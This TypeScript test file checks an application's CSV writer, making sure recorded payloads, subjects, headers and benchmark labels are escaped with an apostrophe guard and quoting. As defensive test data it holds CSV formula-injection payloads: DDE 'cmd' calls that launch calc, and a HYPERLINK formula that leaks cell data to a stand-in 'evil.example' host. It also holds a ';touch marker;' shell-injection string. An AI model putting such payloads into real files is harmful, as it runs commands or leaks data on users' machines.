import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runsToCsv } from '../../main/bench/results';
import { guardCsvText, toCsv, unguardCsvText } from '../../main/core/csv';
import { CSV_HEADER, toCsvRows, type RecordedMessage } from '../../main/recordings/format';

/** The payloads of finding 5 (and a few more starts a spreadsheet evaluates). */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)'
];

function message(payload: string, subject = 'orchestrator.service.health'): RecordedMessage {
  return { subject, headers: null, payload: new TextEncoder().encode(payload), time: Date.UTC(2026, 0, 2), seq: 7 };
}

/** Minimal RFC 4180 reader for the assertions (quoted cells may hold CR, LF, commas and quotes). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('the one CSV writer', () => {
  it('writes no recorded payload bare that a spreadsheet would run as a formula (finding 5)', () => {
    const csv = CSV_HEADER + '\n' + toCsvRows(FORMULAS.map((p) => message(p)));
    const rows = readCsv(csv);
    expect(rows[0]).toEqual(['seq', 'time', 'subject', 'encoding', 'payload', 'headers']);
    const payloads = rows.slice(1).map((r) => r[4]!);
    expect(payloads).toHaveLength(FORMULAS.length);
    for (const [i, cell] of payloads.entries()) {
      // Every one starts with the apostrophe guard and is the payload after it.
      expect(cell).toBe(`'${FORMULAS[i]}`);
      expect(unguardCsvText(cell)).toBe(FORMULAS[i]);
    }
  });

  it('guards the subject and headers cells too, and the bench CSV the same way', () => {
    const m: RecordedMessage = {
      subject: '=evil.subject',
      headers: { '=h': ['=v'] },
      payload: new Uint8Array(),
      time: 0,
      seq: null
    };
    const row = readCsv(toCsvRows([m]))[0]!;
    expect(row[2]).toBe("'=evil.subject");
    expect(row[5]).toBe('{"=h":["=v"]}');
    expect(toCsv([['\tx', '\ry', '＝z', '-w', -3]])).toBe('"\'\tx","\'\ry",\'＝z,\'-w,-3\n');
    const bench = runsToCsv([
      { ...benchRunLike(), label: '＝1+1' } as never,
      { ...benchRunLike(), label: '\t=cmd' } as never
    ]);
    const labels = readCsv(bench)
      .slice(1)
      .map((r) => r[4]);
    expect(labels).toEqual(["'＝1+1", "'\t=cmd"]);
  });

  it('quotes the ;touch marker; payload, so a shell sourcing the file runs nothing', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-shell-'));
    dirs.push(dir);
    const file = path.join(dir, 'rc');
    fs.writeFileSync(file, CSV_HEADER + '\n' + toCsvRows([message(';touch marker;'), message('a b;touch marker2')]));
    const row = fs.readFileSync(file, 'utf8').split('\n')[1]!;
    expect(row).toContain('";touch marker;"');
    spawnSync('sh', [file], { cwd: dir, stdio: 'ignore' });
    expect(fs.existsSync(path.join(dir, 'marker'))).toBe(false);
    expect(fs.existsSync(path.join(dir, 'marker2'))).toBe(false);
  });

  it('quotes every cell that needs it and reads back losslessly, apostrophes included', () => {
    const cells = ['a,b', 'say "hi"', 'two\nlines', 'cr\ronly', ' lead', 'trail ', "'quoted", "''", "'=x", 'plain', ''];
    const csv = toCsv([cells]);
    expect(csv.startsWith('"a,b","say ""hi""","two\nlines","cr\ronly"," lead","trail ",')).toBe(true);
    expect(readCsv(csv)[0]!.map(unguardCsvText)).toEqual(cells);
    for (const c of cells) expect(unguardCsvText(guardCsvText(c))).toBe(c);
  });
});

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

function benchRunLike(): Record<string, unknown> {
  return {
    id: 'r1',
    startedAt: '2026-01-01T00:00:00.000Z',
    finishedAt: '2026-01-01T00:00:01.000Z',
    mode: 'pub',
    label: null,
    params: { msgs: 1, size: 1, pub: 1, sub: 0, storage: 'memory', window: 1, consumer: 'none', batch: 1 },
    totals: { durationMs: 1, msgsPerSec: 1, bytesPerSec: 1 },
    groups: [],
    latency: null,
    environment: {
      serverVersion: '2',
      clientVersion: '3',
      appVersion: '0.1.0',
      nodeVersion: 'v22',
      cpus: 2,
      cpuModel: 'x'
    }
  };
}
